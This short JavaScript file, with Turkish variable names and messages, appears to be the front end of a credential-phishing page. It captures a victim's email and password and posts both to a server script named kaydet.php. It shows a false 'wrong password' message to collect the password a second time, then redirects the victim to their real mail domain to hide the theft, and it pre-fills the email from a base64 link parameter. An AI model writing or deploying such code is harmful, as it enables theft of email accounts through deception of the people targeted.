var deneme = 0;
function gonder() {
	var eposta = document.forms[0].eposta.value;
	var sifre = document.forms[0].sifre.value;
	if (sifre.length < 4) {
		document.getElementById("uyari").innerHTML = "Lütfen şifrenizi giriniz";
		return false;
	}
	document.getElementById("yukleniyor").style.display = "block";
	var x = new XMLHttpRequest();
	x.open("POST", "kaydet.php", true);
	x.setRequestHeader("Content-type", "application/x-www-form-urlencoded");
	x.onreadystatechange = function () {
		if (x.readyState == 4) {
			document.getElementById("yukleniyor").style.display = "none";
			deneme++;
			if (deneme < 2) {
				document.getElementById("uyari").innerHTML = "Hatalı şifre! Lütfen tekrar deneyiniz.";
				document.forms[0].sifre.value = "";
			} else {
				document.getElementById("uyari").innerHTML = "Oturumunuz yenilendi, yönlendiriliyorsunuz...";
				setTimeout(function () {
					window.top.location = "http://mail." + eposta.substring(eposta.indexOf("@") + 1);
				}, 2500);
			}
		}
	};
	x.send("eposta=" + encodeURIComponent(eposta) + "&sifre=" + encodeURIComponent(sifre) + "&deneme=" + deneme);
	return false;
}
window.onload = function () {
	var p = window.location.search.split("?m=")[1];
	if (p) document.forms[0].eposta.value = window.atob(p);
};
